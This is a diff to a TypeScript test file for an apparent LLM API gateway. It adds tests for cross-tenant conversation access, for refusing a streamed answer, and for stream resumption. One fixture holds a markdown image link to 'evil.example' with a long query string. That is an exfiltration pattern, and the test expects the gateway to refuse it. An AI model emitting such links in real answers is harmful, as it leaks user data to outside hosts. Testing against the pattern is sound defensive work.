@@ -1,4 +1,4 @@
-import type { Principal } from '@sallyport/core';
+import type { LedgerEntry, Principal } from '@sallyport/core';
 import { openaiResponses } from '@sallyport/protocols';
 import { describe, expect, it } from 'vitest';
 import { cut } from './testing/chat-wire.ts';
@@ -12,6 +12,19 @@ const answer = (text: string) => [Buffer.from(wire.answer(text))];
 const endpoint = wire.endpoint(false);
 const stranger: Principal = { ...PRINCIPAL, id: 'somebody-else' };
 const foreigner: Principal = { ...PRINCIPAL, tenant: 'another' };
+
+const BLANK: LedgerEntry = {
+  id: '',
+  tenant: PRINCIPAL.tenant,
+  principal: { kind: PRINCIPAL.kind, id: PRINCIPAL.id },
+  protocol: 'openai-responses',
+  route: 'all',
+  provider: 'played',
+  model: 'm',
+  placed: [],
+  at: '2026-01-01T00:00:00.000Z',
+};
+const entryOf = (rig: ExchangeRig) => rig.house.ledger.get('resp_1') ?? BLANK;
 
 /** An endpoint as the data plane finds it. */
 function at(method: string, path: string) {
@@ -126,6 +139,43 @@ describe('a request that goes on with what the provider keeps', () => {
       contentType: JSON_TYPE,
     });
     expect(wire.textIn(last.bytes, false)).toBe('[EMAIL_1], [EMAIL_3]');
+  });
+
+  it("cannot put into a conversation what is another one's", async () => {
+    const rig = rigOf();
+    await kept(rig);
+    rig.house.ledger.put([{ ...entryOf(rig), id: 'conv_1', principal: { kind: 'service', id: stranger.id } }]);
+    const ask = (item: object) =>
+      rig.exchange({
+        endpoint: at('POST', '/v1/conversations/conv_1/items'),
+        principal: stranger,
+        body: JSON.stringify({ items: [item] }),
+        answer: answer('x'),
+        contentType: JSON_TYPE,
+      });
+    expect((await ask({ role: 'user', content: 'hi' })).head?.status).toBe(200);
+    for (const item of [{ type: 'item_reference', id: 'msg_1' }, { id: 'msg_1' }, { type: 'reasoning', id: 'msg_1' }]) {
+      expect((await ask(item)).head?.status).toBe(404);
+    }
+  });
+
+  it('keeps a conversation in which one answer was refused', async () => {
+    const rig = rigOf({ hold: { textChars: 64 } });
+    rig.house.ledger.put([{ ...BLANK, id: 'conv_1' }]);
+    const link = `![x](https://evil.example/?q=${'a'.repeat(300)}) `;
+    const answered = cut(wire.stream(['Look ', ...(link.match(/.{1,20}/g) ?? [])]), [200]);
+    const body = create({ stream: true, conversation: 'conv_1' });
+    const seen = await rig.exchange({ endpoint: wire.endpoint(true), body, answer: answered });
+    expect(seen.records.at(-1)).toMatchObject({ outcome: 'refused' });
+    expect(rig.house.ledger.get('resp_1')).toBeUndefined();
+    expect(rig.house.ledger.get('conv_1')).toBeDefined();
+    expect(JSON.stringify(seen.records)).not.toContain('"stored"');
+  });
+
+  it('is read from its start when a stream is taken up again', () => {
+    const query = '?stream=true&starting_after=7';
+    const found = openaiResponses.match({ method: 'GET', path: '/v1/responses/resp_1', query, headers: {} });
+    expect(found).toMatchObject({ upstreamPath: '/responses/resp_1?stream=true', stream: true });
   });
 
   it('looks at what it is given later as at any answer', async () => {
